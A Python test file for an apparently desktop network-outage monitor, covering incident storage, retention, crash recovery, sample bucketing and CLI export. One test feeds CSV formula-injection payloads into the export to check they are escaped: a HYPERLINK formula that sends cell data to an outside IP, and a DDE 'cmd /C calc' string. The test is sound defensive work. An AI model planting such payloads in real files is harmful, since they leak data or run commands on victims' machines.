"""The incident store: incidents, samples, retention, crash recovery, CLI export."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

from builders import healthy

from offline_ready.diagnosis.classify import classify
from offline_ready.history import HistoryStore
from offline_ready.paths import app_paths

ROOT = Path(__file__).resolve().parents[2]


def outage_verdict(at: datetime):
    from test_classify import resolver_drop

    obs = healthy()
    resolver_drop(obs)
    return classify(obs, checked_at=at)


def test_incident_lifecycle_and_retention(tmp_path) -> None:
    store = HistoryStore(tmp_path / "h.sqlite3", retention_days=90)
    t0 = datetime.now(UTC) - timedelta(days=100)
    old = store.open_incident(outage_verdict(t0), t0)
    store.close_incident(old, t0 + timedelta(minutes=5))
    t1 = datetime.now(UTC) - timedelta(hours=1)
    cur = store.open_incident(outage_verdict(t1), t1)
    assert len(store.incidents()) == 2
    store.add_sample("full", "dns-outage", False, dns_ms=None, tcp_ms=12.0, loss=0.4)  # prunes hourly
    incs = store.incidents()
    assert [i.id for i in incs] == [cur]
    assert incs[0].ended_at is None and incs[0].state == "dns-outage"
    assert any(not e["ok"] for e in incs[0].evidence)
    store.close()


def test_dangling_incident_closed_at_last_alive(tmp_path) -> None:
    store = HistoryStore(tmp_path / "h.sqlite3")
    start = datetime.now(UTC) - timedelta(minutes=10)
    store.open_incident(outage_verdict(start), start)
    alive = time.time() - 300
    store.add_sample("heartbeat", "dns-outage", False, ts=alive)
    store.close()
    again = HistoryStore(tmp_path / "h.sqlite3")
    assert again.close_dangling() == 1
    inc = again.incidents()[0]
    assert abs(inc.ended_at.timestamp() - alive) < 1
    assert 250 < inc.duration_s < 350


def test_history_cli_json_and_csv(app_home) -> None:
    store = HistoryStore(app_paths().history_db)
    start = datetime.now(UTC) - timedelta(hours=2)
    iid = store.open_incident(outage_verdict(start), start)
    store.close_incident(iid, start + timedelta(minutes=7))
    store.close()
    env = {"OFFLINE_READY_HOME": str(app_home), "PYTHONPATH": str(ROOT / "desktop"), "PATH": "/usr/bin:/bin"}
    r = subprocess.run([sys.executable, "-m", "offline_ready", "history", "--json", "--since", "1d"],
                       capture_output=True, text=True, env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    inc = json.loads(r.stdout)["incidents"][0]
    assert inc["state"] == "dns-outage" and inc["duration_s"] == 420.0
    r = subprocess.run([sys.executable, "-m", "offline_ready", "history", "--csv", "--since", "2026-01-01"],
                       capture_output=True, text=True, env=env, timeout=60)
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert rows[0]["state"] == "dns-outage" and "timeout" in rows[0]["evidence"]
    r = subprocess.run([sys.executable, "-m", "offline_ready", "history", "--since", "yesterday-ish"],
                       capture_output=True, text=True, env=env, timeout=60)
    assert r.returncode == 3 and "--since" in r.stderr


def test_sample_buckets_aggregate_latency_and_loss(tmp_path) -> None:
    store = HistoryStore(tmp_path / "h.sqlite3")
    base = (datetime.now(UTC) - timedelta(days=1)).replace(second=0, microsecond=0)
    for i in range(10):  # two 5-minute buckets: the second with three of five heartbeats failed
        ok = i < 5 or i % 2 == 0
        store.add_sample("heartbeat", "online", ok, dns_ms=10.0 + i, ts=(base + timedelta(minutes=i)).timestamp())
    buckets = store.sample_buckets(base, base + timedelta(minutes=10), 300)
    assert [b["samples"] for b in buckets] == [5, 5]
    assert [b["failed"] for b in buckets] == [0, 3]
    assert buckets[0]["dns_ms"] == 12.0 and buckets[1]["dns_max"] == 19.0
    assert buckets[1]["loss_pct"] == 60.0
    assert buckets[1]["start"] == base + timedelta(minutes=5)


def test_history_csv_export_defuses_formula_cells(app_home) -> None:
    """A service name or summary that a spreadsheet would run as a formula is exported as text."""
    import sqlite3

    store = HistoryStore(app_paths().history_db)
    start = datetime.now(UTC) - timedelta(hours=2)
    iid = store.open_incident(outage_verdict(start), start)
    store.close_incident(iid, start + timedelta(minutes=7))
    store.close()
    hostile = '=HYPERLINK("http://198.51.100.7/?"&A1,"x")'
    with sqlite3.connect(app_paths().history_db) as db:
        db.execute("UPDATE incidents SET services=?, summary=? WHERE id=?",
                   (json.dumps([{"name": hostile}]), "@SUM(1+1)*cmd|' /C calc'!A0", iid))
    env = {"OFFLINE_READY_HOME": str(app_home), "PYTHONPATH": str(ROOT / "desktop"), "PATH": "/usr/bin:/bin"}
    r = subprocess.run([sys.executable, "-m", "offline_ready", "history", "--csv", "--since", "1d"],
                       capture_output=True, text=True, env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    row = next(csv.DictReader(io.StringIO(r.stdout)))
    assert row["services_down"] == "'" + hostile
    assert row["summary"].startswith("'@SUM")
    assert row["duration_s"] == "420.0"  # numbers stay numbers
